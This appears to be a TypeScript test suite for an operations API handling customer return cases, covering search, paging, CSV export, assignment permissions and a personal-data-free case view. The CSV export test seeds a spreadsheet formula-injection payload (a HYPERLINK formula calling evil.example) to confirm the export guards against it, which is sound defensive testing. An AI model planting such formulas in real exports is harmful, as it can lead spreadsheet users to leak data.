import type { APIGatewayProxyStructuredResultV2 } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CaseStore } from '../../functions/adapters/case-store.js';
import type { CaseRecord } from '../../functions/domain/case-record.js';
import { LedgerStore } from '../../functions/adapters/ledger-store.js';
import { NoticeStore } from '../../functions/adapters/notice-store.js';
import { apiEvent, callOpsApi, lambdaContext, STACK_TRACE, TABLE_NAME, type HandlerEnv } from './env.js';
import { startOpsApi, type OpsApiHandler } from './ops-api-env.js';
import { PERSON, seedCase, unique } from './fixtures.js';

const OPS_TOKEN = 'ops-token-for-search-tests-41c2';
const ROW_FIELDS = ['caseId', 'type', 'status', 'outcome', 'orderId', 'requestId', 'customerId', 'createdAt', 'priority', 'assignee', 'dueAt'];
const alice = { name: 'alice', role: 'agent' };
const bob = { name: 'bob', role: 'agent' };
const sue = { name: 'sue', role: 'supervisor' };
const vic = { name: 'vic', role: 'viewer' };

let env: HandlerEnv;
let handler: OpsApiHandler;
let cases: CaseStore;

const call = (method: 'GET' | 'POST', path: string, operator = sue, opts: { query?: string; body?: string } = {}) =>
  callOpsApi(handler, OPS_TOKEN, method, path, { operator, ...opts });
const search = (query: string, operator = vic) => call('GET', '/ops/cases', operator, { query });
const assign = (caseId: string, operator: { name: string; role: string }, body?: unknown) =>
  call('POST', `/ops/cases/${caseId}/assign`, operator, body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) });

/** A CSV request: callOpsApi parses JSON, so this one reads the body as text. */
async function csv(query: string, accept = 'application/json') {
  const event = apiEvent({
    method: 'GET',
    path: '/ops/cases',
    routeKey: 'ANY /ops/{proxy+}',
    headers: { accept },
    query,
    jwtClaims: { username: 'vic', 'cognito:groups': '[viewer]', token_use: 'access' },
  });
  const res = (await handler(event, lambdaContext('OpsApi'))) as APIGatewayProxyStructuredResultV2;
  expect(String(res.body)).not.toMatch(STACK_TRACE);
  return { status: res.statusCode, headers: res.headers ?? {}, body: String(res.body) };
}

const seed = (record: Partial<CaseRecord> = {}, type: CaseRecord['type'] = 'return') => seedCase(env.db, { type, record });
const ids = (res: { json: Record<string, any> }) => (res.json.cases as Array<{ caseId: string }>).map((c) => c.caseId);

beforeAll(async () => {
  ({ env, handler, cases } = await startOpsApi());
});

afterAll(async () => {
  await env?.close();
});

describe('GET /ops/cases: search by each key', () => {
  it('by order id: every case of the order, newest first, rows without personal data', async () => {
    const orderId = unique('ORD');
    const older = await seed({ orderId, createdAt: '2026-11-01T08:00:00.000Z', priority: 40 }, 'return');
    const newer = await seed({ orderId, createdAt: '2026-11-02T08:00:00.000Z' }, 'damaged');
    await seed({ createdAt: '2026-11-03T08:00:00.000Z' });
    const res = await search(`orderId=${orderId}`);
    expect(res.status).toBe(200);
    expect(ids(res)).toEqual([newer.caseId, older.caseId]);
    expect(res.json.cases[1]).toEqual({
      caseId: older.caseId,
      type: 'return',
      status: 'received',
      orderId,
      requestId: older.record.requestId,
      customerId: 'cust-88231',
      createdAt: '2026-11-01T08:00:00.000Z',
      priority: 40,
    });
    for (const row of res.json.cases) for (const field of Object.keys(row)) expect(ROW_FIELDS).toContain(field);
    for (const secret of [PERSON.name, PERSON.email, PERSON.phone, 'The key feel']) expect(res.body).not.toContain(secret);
    expect(res.json.nextCursor).toBeUndefined();
  });

  it("a DE case's row has exactly the documented row fields: the API's rows do not carry the console's market", async () => {
    const orderId = unique('ORD');
    const fields = { orderId, market: 'DE', currency: 'EUR', outcome: 'approved', priority: 40, assignee: 'alice', dueAt: '2026-11-09T22:59:59.999Z' } as Partial<CaseRecord>;
    const { caseId } = await seed({ ...fields, createdAt: '2026-11-01T08:00:00.000Z' });
    const res = await search(`orderId=${orderId}`);
    expect(ids(res)).toEqual([caseId]);
    expect(Object.keys(res.json.cases[0]).sort()).toEqual([...ROW_FIELDS].sort());
  });

  it('by request id: the one case it names (no index needed), and nothing for an unknown one', async () => {
    const { caseId, record } = await seed();
    expect(ids(await search(`requestId=${record.requestId}`))).toEqual([caseId]);
    expect(ids(await search(`requestId=${unique('req')}`))).toEqual([]);
    // Further parameters filter it.
    expect(ids(await search(`requestId=${record.requestId}&status=closed`))).toEqual([]);
  });

  it('by customer id, page by page with the cursor, each case once', async () => {
    const customerId = unique('cust');
    const seeded: string[] = [];
    for (let i = 0; i < 5; i += 1) seeded.push((await seed({ customerId, createdAt: `2026-10-0${i + 1}T00:00:00.000Z` })).caseId);
    const pages: string[][] = [];
    let cursor: string | undefined;
    do {
      const res = await search(`customerId=${customerId}&limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.status).toBe(200);
      pages.push(ids(res));
      cursor = res.json.nextCursor;
    } while (cursor && pages.length < 5);
    expect(pages.map((p) => p.length)).toEqual([2, 2, 1]);
    expect(pages.flat()).toEqual([...seeded].reverse());
  });

  it('by status, combined with a type filter', async () => {
    const attention = await seed({ status: 'needs_attention' }, 'lost');
    const otherType = await seed({ status: 'needs_attention' }, 'repair');
    const res = await search('status=needs_attention&limit=200');
    expect(ids(res)).toEqual(expect.arrayContaining([attention.caseId, otherType.caseId]));
    expect(res.json.cases.every((c: { status: string }) => c.status === 'needs_attention')).toBe(true);
    // The status index pages too (its own order: oldest first), each case once.
    const paged: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await search(`status=needs_attention&limit=1${cursor ? `&cursor=${cursor}` : ''}`);
      paged.push(...ids(page));
      cursor = page.json.nextCursor;
    } while (cursor && paged.length < 50);
    expect(paged).toEqual(ids(res));
    const lost = await search('status=needs_attention&type=lost&limit=200');
    expect(ids(lost)).toContain(attention.caseId);
    expect(ids(lost)).not.toContain(otherType.caseId);
  });

  it('by type and by from/to: local days (Asia/Shanghai), across months, the range ends included', async () => {
    // 2025-03-01 00:30 in Shanghai is still February in UTC: found through the February partition.
    const first = await seed({ createdAt: '2025-02-28T16:30:00.000Z' }, 'missing_part');
    const mid = await seed({ createdAt: '2025-03-15T04:00:00.000Z' }, 'exchange');
    const last = await seed({ createdAt: '2025-03-31T15:59:00.000Z' }, 'missing_part');
    const before = await seed({ createdAt: '2025-02-28T15:59:00.000Z' }, 'missing_part'); // 2025-02-28 23:59 local
    const after = await seed({ createdAt: '2025-03-31T16:00:00.000Z' }, 'missing_part'); // 2025-04-01 00:00 local
    const typed = await search('type=missing_part&from=2025-03-01&to=2025-03-31');
    expect(typed.status).toBe(200);
    expect(ids(typed)).toEqual([last.caseId, first.caseId]);
    expect(typed.json.query).toEqual({ type: 'missing_part', from: '2025-03-01', to: '2025-03-31' });
    const all = await search('from=2025-03-01&to=2025-03-31');
    expect(ids(all)).toEqual([last.caseId, mid.caseId, first.caseId]);
    expect(ids(all)).not.toContain(before.caseId);
    expect(ids(all)).not.toContain(after.caseId);
    // Paging over month partitions keeps the order and loses nothing.
    const one = await search('from=2025-03-01&to=2025-03-31&limit=1');
    const two = await search(`from=2025-03-01&to=2025-03-31&limit=2&cursor=${one.json.nextCursor}`);
    expect([...ids(one), ...ids(two)]).toEqual([last.caseId, mid.caseId, first.caseId]);
  });

  it('by assignee once a case is claimed', async () => {
    const { caseId } = await seed();
    const agent = { name: unique('agent'), role: 'agent' };
    expect((await assign(caseId, agent)).status).toBe(200);
    const res = await search(`assignee=${agent.name}`);
    expect(ids(res)).toEqual([caseId]);
    expect(res.json.cases[0].assignee).toBe(agent.name);
  });

  it.each([
    ['', 'no search parameter'],
    ['status=open', 'status'],
    ['type=broken', 'type'],
    ['orderId=a&orderId=b', 'more than once'],
    ['colour=red', 'unknown parameter'],
    ['from=2025-01-01', 'from and to'],
    ['from=2025-02-30&to=2025-03-01', 'from and to'],
    ['from=2025-03-02&to=2025-03-01', 'from must not be after to'],
    ['from=2024-01-01&to=2025-03-01', 'at most 366'],
    ['orderId=x&limit=0', 'limit'],
    ['orderId=x&limit=201', 'limit'],
    ['orderId=x&limit=2.5', 'limit'],
    ['orderId=x&format=xml', 'format'],
    ['orderId=x&cursor=not-a-cursor', 'cursor'],
    ['sla=due_soon&status=received', 'sla='],
  ])('400 invalid_query for "%s", saying what is expected', async (query, reason) => {
    const res = await search(query);
    expect(res.status).toBe(400);
    expect(res.json.error).toBe('invalid_query');
    expect(res.json.message).toContain(reason);
    expect(res.json.message).toContain('due_soon');
  });

  it('400 for a cursor of another query', async () => {
    const customerId = unique('cust');
    for (let i = 0; i < 2; i += 1) await seed({ customerId });
    const first = await search(`customerId=${customerId}&limit=1`);
    expect(first.json.nextCursor).toEqual(expect.any(String));
    const res = await search(`customerId=${unique('cust')}&limit=1&cursor=${first.json.nextCursor}`);
    expect(res).toMatchObject({ status: 400, json: { error: 'invalid_query', message: expect.stringContaining('cursor') } });
  });
});

describe('GET /ops/cases: CSV export', () => {
  it('text/csv with a header row, RFC 4180 quoting and the formula guard, for format=csv and for Accept: text/csv', async () => {
    const orderId = `=HYPERLINK("http://evil.example/?x","a,b")`;
    const plain = await seed({ orderId, customerId: '@SUM(A1)', createdAt: '2026-09-01T00:00:00.000Z' });
    const minus = await seed({ orderId, customerId: '-2+3', createdAt: '2026-09-02T00:00:00.000Z' });
    for (const res of [await csv(`orderId=${encodeURIComponent(orderId)}&format=csv`), await csv(`orderId=${encodeURIComponent(orderId)}`, 'text/csv')]) {
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['x-truncated']).toBeUndefined();
      const lines = res.body.split('\r\n');
      expect(lines[0]).toBe(ROW_FIELDS.join(','));
      expect(lines).toHaveLength(4); // header, two rows, and the final CRLF
      expect(lines[3]).toBe('');
      const guarded = `"'=HYPERLINK(""http://evil.example/?x"",""a,b"")"`;
      expect(lines[1]).toBe(`${minus.caseId},return,received,,${guarded},${minus.record.requestId},'-2+3,2026-09-02T00:00:00.000Z,,,`);
      expect(lines[2]).toBe(`${plain.caseId},return,received,,${guarded},${plain.record.requestId},'@SUM(A1),2026-09-01T00:00:00.000Z,,,`);
    }
  });

  it('an empty result is the header alone; a bad query is still a JSON 400', async () => {
    const empty = await csv(`orderId=${unique('ORD')}&format=csv`);
    expect(empty.body).toBe(`${ROW_FIELDS.join(',')}\r\n`);
    const bad = await csv('format=csv');
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.body).error).toBe('invalid_query');
  });
});

describe('POST /ops/cases/{caseId}/assign', () => {
  it('an agent claims a case; the claim is on the timeline with name and role, and the review queue shows it', async () => {
    const { caseId } = await seed({
      status: 'awaiting_review',
      review: { openedAt: new Date().toISOString(), reminderAt: new Date().toISOString(), escalateAt: new Date().toISOString(), reasonCode: 'high_value' },
    });
    // awaiting_review is set at creation here; the queue reads the status index.
    const res = await assign(caseId, alice);
    expect(res.status).toBe(200);
    expect(res.json).toEqual({ caseId, assignee: 'alice' });
    expect(await cases.get(caseId)).toMatchObject({ assignee: 'alice', assignedAt: expect.any(String) });
    const view = await call('GET', `/ops/cases/${caseId}`, alice);
    expect(view.json.assignee).toBe('alice');
    expect(view.json.timeline.find((e: { event: string }) => e.event === 'case_assigned')).toMatchObject({ actor: 'operator:alice', detail: { assignee: 'alice', role: 'agent' } });
    const queue = await call('GET', '/ops/reviews', vic);
    expect(queue.json.reviews.find((r: { caseId: string }) => r.caseId === caseId)).toMatchObject({ caseId, assignee: 'alice' });
    // Claiming again is harmless and adds nothing.
    expect((await assign(caseId, alice, { assignee: 'alice' })).json).toEqual({ caseId, assignee: 'alice' });
    expect((await call('GET', `/ops/cases/${caseId}`, alice)).json.timeline.filter((e: { event: string }) => e.event.startsWith('case_')).length).toBe(2); // received + assigned
  });

  it('409 already_assigned for another agent; 403 for an agent naming someone else; a supervisor reassigns', async () => {
    const { caseId } = await seed();
    expect((await assign(caseId, alice)).status).toBe(200);
    expect(await assign(caseId, bob)).toMatchObject({ status: 409, json: { error: 'already_assigned', assignee: 'alice' } });
    expect(await assign(caseId, bob, { assignee: 'bob' })).toMatchObject({ status: 409, json: { error: 'already_assigned', assignee: 'alice' } });
    expect(await assign(caseId, bob, { assignee: 'carol' })).toMatchObject({ status: 403, json: { error: 'forbidden', needs: 'supervisor' } });
    const reassigned = await assign(caseId, sue, { assignee: 'bob' });
    expect(reassigned).toMatchObject({ status: 200, json: { caseId, assignee: 'bob', previous: 'alice' } });
    expect(await assign(caseId, alice)).toMatchObject({ status: 409, json: { error: 'already_assigned', assignee: 'bob' } });
    const timeline = (await call('GET', `/ops/cases/${caseId}`)).json.timeline as Array<Record<string, any>>;
    expect(timeline.find((e) => e.event === 'case_reassigned')).toMatchObject({ actor: 'operator:sue', detail: { assignee: 'bob', previous: 'alice', role: 'supervisor' } });
    // A supervisor may also claim a case another operator holds.
    expect(await assign(caseId, sue)).toMatchObject({ status: 200, json: { assignee: 'sue', previous: 'bob' } });
  });

  it('of simultaneous claims exactly one wins; the others learn who holds the case', async () => {
    const { caseId } = await seed();
    const agents = ['a1', 'a2', 'a3', 'a4', 'a5'].map((name) => ({ name, role: 'agent' }));
    const results = await Promise.all(agents.map((agent) => assign(caseId, agent)));
    const winners = results.filter((r) => r.status === 200);
    expect(winners).toHaveLength(1);
    const holder = winners[0]!.json.assignee;
    for (const r of results.filter((x) => x.status !== 200)) expect(r).toMatchObject({ status: 409, json: { error: 'already_assigned', assignee: holder } });
    expect((await cases.get(caseId))?.assignee).toBe(holder);
  });

  it('409 case_closed; 403 for a viewer; 404 for an unknown case; 422 for a malformed body', async () => {
    const closed = await seed({ status: 'closed', outcome: 'approved' });
    expect(await assign(closed.caseId, alice)).toMatchObject({ status: 409, json: { error: 'case_closed' } });
    expect(await assign(closed.caseId, sue, { assignee: 'bob' })).toMatchObject({ status: 409, json: { error: 'case_closed' } });
    const open = await seed();
    expect(await assign(open.caseId, vic)).toMatchObject({ status: 403, json: { error: 'forbidden', needs: 'agent' } });
    expect(await assign('AS-0000000000AB', alice)).toMatchObject({ status: 404, json: { error: 'case_not_found' } });
    for (const body of ['{', '{"assignee": ""}', '{"assignee": "two words"}', '{"assignee": 7}', '{"who": "alice"}']) {
      expect(await assign(open.caseId, sue, body), body).toMatchObject({ status: 422, json: { error: 'invalid_assignment' } });
    }
    expect((await cases.get(open.caseId))?.assignee).toBeUndefined();
  });
});

describe('GET /ops/cases/{caseId}: the case view to decide from', () => {
  it('items, order value, tier, reason and description, evidence, carrier facts, costs, notices; never name, email or phone', async () => {
    const { caseId } = await seed({
      evidence: [{ kind: 'photo', url: 'https://cdn.example.com/evidence/1.jpg' }],
      compensation: { instructionId: 'ins-1', kind: 'refund', amount: 39900, currency: 'CNY', idempotencyKey: 'k-1', at: '2026-11-02T00:00:00.000Z', status: 'completed' },
    });
    await new LedgerStore(env.db, TABLE_NAME).record({
      caseId,
      key: 'k-1',
      kind: 'refund',
      amount: 39900,
      currency: 'CNY',
      caseType: 'return',
      remedy: 'refund',
      carrier: 'sf-express',
      day: '2026-11-02',
      at: '2026-11-02T00:00:00.000Z',
    });
    const notices = new NoticeStore(env.db, TABLE_NAME);
    await notices.claim(caseId, 'received', 'email', new Date());
    await notices.markSent(caseId, 'received', 'email', new Date(), 'ses-1');
    const res = await call('GET', `/ops/cases/${caseId}`, vic);
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({
      caseId,
      reason: 'no_longer_needed',
      description: 'The key feel is not what I expected.',
      customer: { customerId: 'cust-88231', tier: 'gold' },
      items: [{ sku: 'KB-87-BLK', name: 'Mechanical keyboard, 87 keys, black', category: 'electronics', quantity: 1, unitPrice: 39900 }],
      order: { currency: 'CNY', value: 39900 + 2 * 2900, items: expect.arrayContaining([expect.objectContaining({ sku: 'CBL-USBC-1M', quantity: 2 })]) },
      evidence: [{ kind: 'photo', url: 'https://cdn.example.com/evidence/1.jpg' }],
      shipment: { carrier: 'sf-express', trackingNumber: 'SF1234567890123' },
      compensation: { amount: 39900, status: 'completed' },
      costs: { entries: [{ kind: 'refund', amount: 39900, currency: 'CNY', remedy: 'refund', at: '2026-11-02T00:00:00.000Z' }], totals: { CNY: 39900 } },
      notices: [{ milestone: 'received', channel: 'email', status: 'sent' }],
      timeline: [expect.objectContaining({ event: 'case_received' })],
    });
    for (const secret of [PERSON.name, PERSON.email, PERSON.phone]) expect(res.body).not.toContain(secret);
    for (const field of ['name', 'email', 'phone', 'address', 'contact']) expect(res.json).not.toHaveProperty(field);
    expect(JSON.stringify(res.json.customer)).not.toMatch(/name|email|phone/);
  });
});
